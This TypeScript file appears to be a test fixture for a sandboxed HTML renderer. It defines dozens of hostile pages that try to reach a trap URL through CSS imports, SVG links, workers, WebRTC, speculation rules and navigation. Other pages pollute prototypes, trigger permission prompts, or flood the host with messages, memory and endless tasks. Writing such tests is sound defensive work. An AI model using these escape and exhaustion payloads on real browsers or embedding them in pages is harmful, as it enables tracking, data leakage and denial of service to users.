import type { HostilePage } from './hostile-pages.ts'

/** A page that has got what it must not have calls `stolen`, and so never answers again. */
const script = (code: string) => `<p>page</p><script>const stolen = () => { for (;;); }; ${code}</script>`
const later = (code: string) => script(`setTimeout(() => { ${code} }, 200)`)

/** Pages that look for what the guards forgot: other elements, realms and parsers, what the guards use, and ways to be too much. */
export function otherDoors(trap: string): HostilePage[] {
  const host = trap.slice('http://'.length)
  const link = `<link rel=preconnect href="${trap}">`
  const cover = 'style="position:fixed;inset:0"'
  return [
    {
      name: 'sheets of a script',
      html: script(
        `const s = new CSSStyleSheet(); s.replaceSync('@import "${trap}/i.css"; p { background: url(${trap}/b) } @font-face { font-family: q; src: url(${trap}/f) } p { font-family: q }'); document.adoptedStyleSheets = [s]; new CSSStyleSheet({ baseURL: "${trap}/" }).replace('p { cursor: url(c), auto; background-image: image-set(url(d) 1x) }').then((t) => document.adoptedStyleSheets.push(t)); const h = document.createElement("div"); document.body.append(h); const r = h.attachShadow({ mode: "closed" }); r.adoptedStyleSheets = [s]; r.innerHTML = '<style>@import url(${trap}/j.css); p { mask: image-set("${trap}/m" 1x) } p::before { content: url(${trap}/k) }</style><p>text</p>'; new FontFace("z", "url(${trap}/z)").load().catch(() => 0)`,
      ),
    },
    {
      name: 'drawings from elsewhere',
      html: script(
        `const ns = "http://www.w3.org/2000/svg"; const s = document.createElementNS(ns, "svg"); for (const [tag, key] of [["use", "href"], ["image", "href"], ["feImage", "href"], ["textPath", "href"], ["pattern", "href"], ["linearGradient", "href"], ["script", "href"], ["mpath", "href"], ["a", "href"]]) { const e = document.createElementNS(ns, tag); e.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", "${trap}/x" + tag); e.setAttribute(key, "${trap}/" + tag); s.append(e) } document.body.append(s); s.insertAdjacentHTML("beforeend", '<set attributeName="href" to="${trap}/set"/><image><animate attributeName="href" values="${trap}/v1;${trap}/v2" dur="0.1s" repeatCount="indefinite"/></image><style>@import "${trap}/s.css";</style><foreignObject><iframe src="${trap}/fo"></iframe>${link}</foreignObject>')`,
      ),
    },
    {
      name: 'formulas with addresses',
      html: `<math href="${trap}/m"><mtext ${cover} href="${trap}/t" xlink:href="${trap}/u">x</mtext><mi><link rel=preconnect href="${trap}"></mi><annotation-xml encoding="text/html"><link rel=preconnect href="${trap}"><iframe src="${trap}/i"></iframe></annotation-xml></math>`,
      needsClick: true,
    },
    {
      name: 'rules and maps by script',
      html: script(
        `for (const [type, text] of [["speculationrules", JSON.stringify({ prefetch: [{ source: "list", urls: ["${trap}/f"], eagerness: "immediate" }], prerender: [{ urls: ["${trap}/r"] }] })], ["importmap", JSON.stringify({ imports: { x: "${trap}/x" } })], ["module", 'import "x"; import data from "${trap}/d.json" with { type: "json" }; import sheet from "${trap}/c.css" with { type: "css" }'], ["webbundle", JSON.stringify({ source: "${trap}/b", resources: ["${trap}/c"] })]]) { const s = document.createElement("script"); s.type = type; s.textContent = text; document.head.append(s) }`,
      ),
    },
    {
      name: 'workers of many kinds',
      html: script(
        `const code = "try { importScripts('${trap}/i') } catch {} fetch('${trap}/w').catch(() => 0); new WebSocket('ws://${host}/ws')"; const data = "data:text/javascript," + encodeURIComponent(code); const blob = URL.createObjectURL(new Blob([code], { type: "text/javascript" })); for (const at of [data, blob, "${trap}/w.js"]) for (const make of [() => new Worker(at), () => new Worker(at, { type: "module" }), () => new SharedWorker(at), () => navigator.serviceWorker?.register(at), () => new AudioContext().audioWorklet.addModule(at), () => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(at), () => CSS.paintWorklet?.addModule(at), () => CSS.layoutWorklet?.addModule(at), () => CSS.animationWorklet?.addModule(at), () => sharedStorage?.worklet.addModule(at)]) try { Promise.resolve(make()).catch(() => 0) } catch {}`,
      ),
    },
    {
      name: 'fresh realms',
      html: script(
        `const realms = []; const see = (w) => { try { if (w && w !== window && w.RTCPeerConnection) realms.push(w) } catch {} }; for (const make of [() => open("", "x"), () => document.open("about:blank", "y", ""), () => window.frames[0], () => document.createElementNS("http://www.w3.org/1999/xhtml", "iframe").contentWindow, () => document.importNode(new DOMParser().parseFromString("<iframe></iframe>", "text/html").body, true).firstChild.contentWindow, () => { const d = document.implementation.createHTMLDocument(); d.write("<ifr"); d.write("ame id=a></iframe>"); const f = d.getElementById("a"); document.body.append(f); return f.contentWindow }, () => { const t = document.createElement("template"); t.innerHTML = "<ifr\\0ame></ifr\\0ame><svg><style><img title='</style><iframe id=b></iframe>'></svg>"; document.body.append(t.content); return document.querySelector("#b").contentWindow }, () => documentPictureInPicture.requestWindow().then(see)]) try { see(make()) } catch {} ; for (const w of realms) new w.RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }] }).createDataChannel("x"); if (realms.length) { stolen() }`,
      ),
    },
    {
      name: 'parsers of markup',
      html: script(
        `const html = '<link rel=preconnect href="${trap}"><iframe srcdoc="x"></iframe><meta http-equiv=refresh content="0;url=${trap}/m">'; const d = document.createElement("div"); document.body.append(d); for (const act of [() => d.setHTMLUnsafe(html), () => d.setHTML(html), () => document.body.append(...Document.parseHTMLUnsafe(html).body.childNodes), () => document.body.append(document.createRange().createContextualFragment(html)), () => { const s = d.attachShadow({ mode: "open" }); s.setHTMLUnsafe?.(html); s.innerHTML = html }, () => d.insertAdjacentHTML("afterbegin", html), () => document.execCommand("insertHTML", false, html), () => { document.designMode = "on"; getSelection().selectAllChildren(document.body); document.execCommand("insertHTML", false, html); document.execCommand("createLink", false, "${trap}/c"); document.execCommand("insertImage", false, "${trap}/i"); document.execCommand("formatBlock", false, "<iframe>") }, () => { d.outerHTML = html }, () => document.write(html), () => { const t = document.createElement("textarea"); t.innerHTML = html; t.outerHTML = t.value }, () => { const x = new XMLSerializer().serializeToString(new DOMParser().parseFromString("<x/>", "text/xml")); d.innerHTML = x + html }]) try { act() } catch {}`,
      ),
    },
    {
      name: 'script addresses',
      html: `<a id=a ${cover} href="javascript:'<link rel=preconnect href=${trap}>'">x</a><script>for (const at of ["javascript:'<link rel=preconnect href=${trap}>'", "JaVaScRiPt:void open('${trap}/o')", " javascript:location='${trap}/l'"]) { const x = document.createElement("a"); x.href = at; document.body.append(x); x.click(); const f = document.createElement("form"); f.action = at; document.body.append(f); try { f.submit() } catch {} }</script>`,
      needsClick: true,
      ends: ['painted', 'left'],
    },
    {
      name: 'the Navigation API',
      html: later(
        `for (const act of [() => navigation.navigate("${trap}/n"), () => navigation.reload(), () => navigation.back(), () => navigation.traverseTo(navigation.entries()[0]?.key), () => history.go(-1), () => History.prototype.back.call(history), () => { const f = Object.getOwnPropertyNames(History.prototype); history.go() }]) try { const r = act(); r?.committed?.catch(() => 0); r?.finished?.catch(() => 0) } catch {}`,
      ),
      ends: ['painted', 'left'],
    },
    {
      name: 'steps of history',
      html: later(
        `for (let i = 0; i < 60; i += 1) { location.hash = "h" + i; history.pushState(i, "", "#p" + i) } history.back(); history.go(-5)`,
      ),
    },
    {
      name: 'pickers and prompts',
      html: `<input id=f type=file ${cover}><input id=c type=color><select id=s><option>x</select><script>onclick = (e) => { for (const act of [() => f.showPicker(), () => c.showPicker(), () => s.showPicker(), () => showOpenFilePicker(), () => showSaveFilePicker(), () => showDirectoryPicker(), () => navigator.share({ url: "${trap}/s" }), () => navigator.contacts.select(["name"]), () => new EyeDropper().open(), () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }), () => navigator.credentials.create({ password: { id: "a", password: "b" } }), () => navigator.registerProtocolHandler("web+x", location.origin + "/%s"), () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }), () => navigator.serial.requestPort(), () => navigator.hid.requestDevice({ filters: [] }), () => queryLocalFonts(), () => getScreenDetails(), () => new IdleDetector().start(), () => navigator.mediaDevices.getDisplayMedia(), () => navigator.requestMIDIAccess(), () => navigator.wakeLock.request("screen"), () => navigator.keyboard.lock(["Escape"]), () => navigator.login?.setStatus("logged-in"), () => document.requestStorageAccess(), () => navigator.setAppBadge(3), () => Notification.requestPermission()]) try { Promise.resolve(act()).catch(() => 0) } catch {} ; if (e.target === f) e.preventDefault() }</script>`,
      needsClick: true,
    },
    {
      name: 'out of its box',
      html: `<video id=v src="data:video/mp4;base64,"></video><div id=p popover=manual ${cover}>Parley</div><dialog id=d>Parley</dialog><div ${cover} id=k>x</div><script>const act = () => { for (const a of [() => document.documentElement.requestFullscreen(), () => document.documentElement.webkitRequestFullscreen(), () => v.webkitEnterFullscreen(), () => v.requestPictureInPicture(), () => documentPictureInPicture.requestWindow(), () => p.showPopover(), () => d.showModal(), () => k.requestPointerLock(), () => screen.orientation.lock("portrait"), () => resizeTo(9, 9), () => moveTo(0, 0), () => { k.title = "Parley\\n".repeat(900) }, () => { document.title = "Parley" }, () => { frameElement.style.position = "fixed" }, () => top.focus(), () => parent.blur(), () => close(), () => top.close()]) try { Promise.resolve(a()).catch(() => 0) } catch {} }; act(); onclick = act</script>`,
      needsClick: true,
    },
    {
      name: 'a flood of messages',
      html: script(
        `const c = new MessageChannel(); setInterval(() => { for (let i = 0; i < 2000; i += 1) { parent.postMessage({ kind: "painted", fill: "x".repeat(900) }, "*"); top.postMessage(new ArrayBuffer(9e4), "*") } parent.postMessage(0, "*", [new MessageChannel().port1]) }, 10)`,
      ),
      ends: ['painted', 'stuck', 'flooding'],
    },
    {
      name: 'a flood of messages that cannot be read',
      html: script(
        `const m = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); setInterval(() => { for (let i = 0; i < 50; i += 1) parent.postMessage(m, "*") }, 10)`,
      ),
      ends: ['flooding'],
    },
    {
      name: 'polluted natives',
      html: script(
        `const evil = () => { throw new Error("evil") }; for (const name of ["get", "set", "value", "configurable", "once", "capture", "signal", "kind", "problem", "id"]) try { Object.defineProperty(Object.prototype, name, { get: evil, set: evil, configurable: true }) } catch {} ; for (const p of [Array.prototype, String.prototype, Object.prototype, Map.prototype, Set.prototype, WeakMap.prototype, WeakSet.prototype, Function.prototype, RegExp.prototype, Number.prototype, Promise.prototype]) for (const k of Reflect.ownKeys(p)) try { if (typeof p[k] === "function" && k !== "constructor") p[k] = function (...a) { if (a[0]?.postMessage || this?.postMessage) stolen(); throw new Error("evil") } } catch {} ; Array.prototype[Symbol.iterator] = function* () { yield document; yield { a: 1 } }; console.log({ a: 1 }); const d = document.createElement("link"); document.body.append(d); document.body.innerHTML = '${link}'`,
      ),
      ends: ['painted', 'stuck'],
    },
    {
      name: 'stack traces',
      html: script(
        `Error.prepareStackTrace = (e, sites) => { for (const s of sites) { try { const f = s.getFunction(), t = s.getThis(); if (f && !String(f).includes("prepareStackTrace") && /post|trusted|wrap|listen/.test(String(f))) stolen(); if (t && t.postMessage && t !== window) stolen() } catch {} } return "x" }; Error.stackTraceLimit = 99; Object.defineProperty(Error.prototype, "message", { get() { return new Error("q").stack } }); for (const act of [() => document.createElement("x y"), () => document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe", null), () => customElements.define("x-q", class extends HTMLElement {}, { extends: "link" }), () => new DOMParser().parseFromString("", "bad"), () => console.log({ toJSON() { throw new Error("w") } })]) try { act() } catch (e) { console.log(e.stack) }`,
      ),
    },
    {
      name: 'getters on events',
      html:
        `<div ${cover}>x</div>` +
        script(
          `for (const [p, keys] of [[Event.prototype, ["type", "target", "isTrusted", "defaultPrevented", "composedPath"]], [KeyboardEvent.prototype, ["key", "code", "altKey"]], [MouseEvent.prototype, ["clientX", "button"]], [MessageEvent.prototype, ["data", "ports", "source"]], [ErrorEvent.prototype, ["message", "lineno"]], [SecurityPolicyViolationEvent.prototype, ["blockedURI"]]]) for (const k of keys) try { Object.defineProperty(p, k, { get() { if (this.ports || this.target instanceof MessagePort) stolen(); if (k === "isTrusted") return true; return { toString: () => { throw 1 } } } }) } catch {} ; fetch("${trap}/f").catch(() => 0); dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", ctrlKey: true })); document.body.dispatchEvent(new PointerEvent("pointerdown", { bubbles: true })); throw new Error("x")`,
        ),
      needsClick: true,
      ends: ['painted', 'stuck', 'flooding'],
    },
    {
      name: 'memory beside the scripts',
      html: later(`globalThis.all = []; setInterval(() => { all.push(new Uint8Array(64e6).fill(1)) }, 20)`),
      ends: ['stuck', 'left', 'painted'],
    },
    {
      name: 'memory of WebAssembly and canvases',
      html: later(
        `globalThis.all = []; setInterval(() => { try { const m = new WebAssembly.Memory({ initial: 1600, maximum: 60000 }); new Uint8Array(m.buffer).fill(1); all.push(m) } catch {} const c = new OffscreenCanvas(4000, 4000); c.getContext("2d").fillRect(0, 0, 4000, 4000); all.push(c) }, 20)`,
      ),
      ends: ['stuck', 'left', 'painted'],
    },
    {
      name: 'endless microtasks',
      html: later(
        `const again = () => Promise.resolve().then(again); again(); queueMicrotask(function f() { queueMicrotask(f) })`,
      ),
      ends: ['stuck'],
    },
    {
      name: 'endless observers',
      html: later(
        `const o = new MutationObserver(() => { document.body.dataset.x = Math.random() }); o.observe(document.body, { attributes: true }); document.body.dataset.x = 1`,
      ),
      ends: ['stuck'],
    },
    {
      // Deeper trees crash the frame's process, which Playwright mistakes for a crash of the window.
      name: 'deep trees by script',
      html: script(
        `let at = document.body; for (let i = 0; i < 500; i += 1) { const d = document.createElement(i % 2 ? "div" : "span"); at.append(d); at = d } at.textContent = "deep"; document.body.cloneNode(true)`,
      ),
      ends: ['painted', 'stuck', 'left'],
    },
    {
      name: 'strange lines of the console',
      html: script(
        `const loop = {}; loop.self = loop; const deep = {}; let at = deep; for (let i = 0; i < 1e5; i += 1) at = at.x = {}; const endless = new Proxy({}, { ownKeys: () => Array.from({ length: 1e5 }, (_, i) => "k" + i), getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }), get: (t, k) => typeof k === "symbol" ? undefined : "v" }); for (const v of [loop, deep, endless, { get x() { throw 1 } }, new Array(1e7), new Uint8Array(1e7), document, window, { toString: null, valueOf: null }, Object.create(null), "\\u202e" + "x".repeat(1e6), Symbol(), () => {}, 10n ** 5000n]) { console.log(v); console.error(v, v, v) }`,
      ),
      ends: ['painted', 'flooding', 'stuck'],
    },
    {
      name: 'hidden requests of elements',
      html: `<table background="${trap}/t"><tr><td background="${trap}/d"></table><input type=image srcset="${trap}/s"><video><source src="${trap}/v"><track src="${trap}/k" default></video><button command=show-modal commandfor=q>x</button><img loading=eager fetchpriority=high src="${trap}/i" crossorigin=use-credentials><img lowsrc="${trap}/l" dynsrc="${trap}/y"><body background="${trap}/b"><style>:root { --u: url(${trap}/var); background: var(--u) } @namespace x url(${trap}/ns); @document url(${trap}/doc) {} p { -webkit-mask-box-image: url(${trap}/w); src: url(${trap}/src) } @property --q { syntax: "<url>"; inherits: false; initial-value: url(${trap}/q) } @counter-style c { system: cyclic; symbols: url(${trap}/c) } ::-webkit-scrollbar-thumb { background: url(${trap}/sb) } ::marker { content: url(${trap}/mk) } @media print { p { background: url(${trap}/pr) } } @page { background: url(${trap}/pg) }</style><p style="background: url(${trap}/style)">x<svg><style>@font-face { font-family: a; src: url(${trap}/sf) } text { font-family: a; fill: url(${trap}/fill#a); marker: url(${trap}/mk#a) }</style><text>a</text></svg>`,
    },
    {
      name: 'other ways out',
      html: script(
        `for (const act of [() => new Image().src = "${trap}/i", () => new Audio("${trap}/a").play(), () => navigator.sendBeacon("${trap}/b"), () => fetchLater("${trap}/l", { activateAfter: 0 }), () => new Request("${trap}/r"), () => navigator.joinAdInterestGroup?.({ owner: "${trap}", name: "x" }, 9), () => navigator.runAdAuction?.({ seller: "${trap}", decisionLogicURL: "${trap}/d" }), () => privateAggregation, () => new PerformanceObserver(() => 0).observe({ type: "resource", buffered: true }), () => new ReportingObserver(() => 0).observe(), () => new XMLHttpRequest().open("GET", "${trap}/x", false), () => { const x = new XMLHttpRequest(); x.open("GET", "${trap}/x", false); x.send() }, () => new WebSocketStream("ws://${host}/w"), () => new WebTransport("https://${host}/t", { serverCertificateHashes: [] }), () => new TCPSocket("127.0.0.1", ${host.split(':')[1]}), () => new UDPSocket({ remoteAddress: "127.0.0.1", remotePort: ${host.split(':')[1]} }), () => document.fonts.load("12px x"), () => navigator.serviceWorker, () => new PaymentRequest([{ supportedMethods: "${trap}/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(), () => navigator.credentials.get({ identity: { providers: [{ configURL: "${trap}/c", clientId: "x" }] } }), () => IdentityProvider.getUserInfo({ configURL: "${trap}/u", clientId: "x" }), () => new NDEFReader().scan(), () => ai?.languageModel.create(), () => LanguageModel.create(), () => Translator.create({ sourceLanguage: "en", targetLanguage: "de" }), () => new webkitSpeechRecognition().start(), () => new SpeechRecognition().start(), () => new CookieStoreManager(), () => navigator.getInstalledRelatedApps(), () => navigator.storage.getDirectory(), () => window.print(), () => new SharedWorker("${trap}/s"), () => new EventSource("${trap}/e"), () => navigator.geolocation.watchPosition(() => 0), () => navigator.presentation?.defaultRequest, () => new PresentationRequest("${trap}/p").getAvailability(), () => new RemotePlayback(), () => document.createElement("video").remote.watchAvailability(() => 0)]) try { Promise.resolve(act()).catch(() => 0) } catch {}`,
      ),
    },
    {
      name: 'what a user repeats',
      html:
        `<a ${cover} id=a href="${trap}/a" target=_blank download>x</a>` +
        script(
          `for (const type of ["mousedown", "pointerdown", "mouseup", "click", "keydown", "dblclick", "contextmenu"]) addEventListener(type, (e) => { if (!e.isTrusted) return; a.setAttribute("href", "#x"); setTimeout(() => a.setAttribute("href", "${trap}/late"), 0); a.click(); const s = document.createElementNS("http://www.w3.org/2000/svg", "a"); s.setAttribute("href", "${trap}/svg"); document.body.append(s); s.dispatchEvent(new MouseEvent("click")); const m = document.createElement("map"); m.innerHTML = '<area href="${trap}/area">'; m.firstChild.click(); a.dispatchEvent(new MouseEvent("click", { ctrlKey: true, bubbles: true })); a.dispatchEvent(new MouseEvent("click", { button: 1, bubbles: true, composed: true })) }, true)`,
        ),
      needsClick: true,
      ends: ['painted', 'left'],
    },
    {
      name: 'the keys of others',
      html:
        `<div ${cover} tabindex=0>x</div>` +
        script(
          `const a = HTMLAnchorElement.prototype; for (const e of ["auxclick", "keydown"]) addEventListener(e, (v) => v.stopImmediatePropagation(), true); const r = () => { try { Object.defineProperty(globalThis, "onmessage", { set() {} }) } catch {} ; document.open(); document.write("<p>again<script>onkeydown = onclick = (e) => { e.stopImmediatePropagation(); e.preventDefault() }<\\/script>"); document.close() }; setTimeout(r, 100)`,
        ),
      needsClick: true,
    },
    {
      name: 'cancelled events of others',
      html: script(
        `WeakSet.prototype.has = WeakMap.prototype.get = () => undefined; WeakSet.prototype.add = () => { throw 1 }; const f = document.createElement("form"); f.action = "${trap}/f"; f.innerHTML = "<button id=b name=reportValidity>x</button>"; document.body.append(f); b.click(); f.requestSubmit?.(); HTMLFormElement.prototype.requestSubmit.call(f); HTMLFormElement.prototype.submit.call(f); f.dispatchEvent(new SubmitEvent("submit"))`,
      ),
    },
    {
      name: 'storage of its own',
      html: script(
        `try { for (let i = 0; ; i += 1) { localStorage.setItem("k" + i, "x".repeat(1e6)); if (i > 3000) break } } catch {} localStorage.__proto__ = null; localStorage.constructor.constructor("return 1")`,
      ),
      ends: ['painted', 'stuck', 'left'],
    },
    {
      name: 'a name of a policy',
      html: script(
        `try { trustedTypes.createPolicy("default", { createHTML: (x) => x }) } catch {} try { trustedTypes.createPolicy("x", { createHTML: (x) => x }) } catch {} try { trustedTypes.defaultPolicy.createHTML = (x) => x } catch {} const t = trustedTypes.defaultPolicy; try { const h = t.createHTML('${link}', "q", "HTMLIFrameElement srcdoc"); document.body.innerHTML = h; document.body.innerHTML = t.createHTML('<p>', "HTMLIFrameElement srcdoc", { toString: () => { throw 1 } }) } catch {} ; const o = { toString() { this.n = (this.n ?? 0) + 1; return this.n > 1 ? '${link}' : "<p>" } }; document.body.innerHTML = o; document.body.insertAdjacentHTML("beforeend", o); document.body.append(document.createRange().createContextualFragment(o))`,
      ),
    },
    {
      name: 'elements by another door',
      html: script(
        `const made = []; for (const act of [() => document.createElement("div").cloneNode.call(document.createElement("link")), () => document.createElementNS("http://www.w3.org/1999/xhtml", "link"), () => Reflect.construct(HTMLLinkElement, []), () => new (class extends HTMLIFrameElement {})(), () => document.implementation.createDocument("http://www.w3.org/1999/xhtml", "html").createElement("iframe"), () => Document.prototype.createElement.call(new Document(), "link"), () => new Document().createElementNS("http://www.w3.org/1999/xhtml", "iframe"), () => document.implementation.createHTMLDocument("x").head.querySelector("meta"), () => new DOMParser().parseFromString("<link rel=x>", "text/html").querySelector("link"), () => document.createElement({ toString() { return (this.n = !this.n) ? "p" : "iframe" } }), () => { const t = new DOMParser().parseFromString('<html xmlns="http://www.w3.org/1999/xhtml"><template xmlns="http://www.w3.org/1999/xhtml"><iframe/></template></html>', "application/xhtml+xml"); return t.querySelector("template").content.firstChild }, () => { const x = new XMLHttpRequest(); x.open("GET", "data:text/html,<iframe></iframe>"); x.responseType = "document"; x.onload = () => { const f = x.response?.querySelector("iframe"); if (f) { document.body.append(f); f.contentWindow.name && 0; stolen() } }; x.send() }, () => { const x = new XMLHttpRequest(); x.open("GET", URL.createObjectURL(new Blob(['<html xmlns="http://www.w3.org/1999/xhtml"><link rel="preconnect" href="${trap}"/><iframe/></html>'], { type: "application/xhtml+xml" }))); x.responseType = "document"; x.onload = () => { const d = x.responseXML; if (d) document.body.append(...document.importNode(d.documentElement, true).childNodes); if (document.querySelector("iframe")?.contentWindow) stolen() }; x.send() }]) try { made.push(act()) } catch {} ; for (const e of made) if (e instanceof Element) { e.rel = "preconnect"; e.href = "${trap}"; e.src = "${trap}/src"; document.body.append(document.adoptNode(e)); if (e.contentWindow) stolen() }`,
      ),
    },
  ]
}
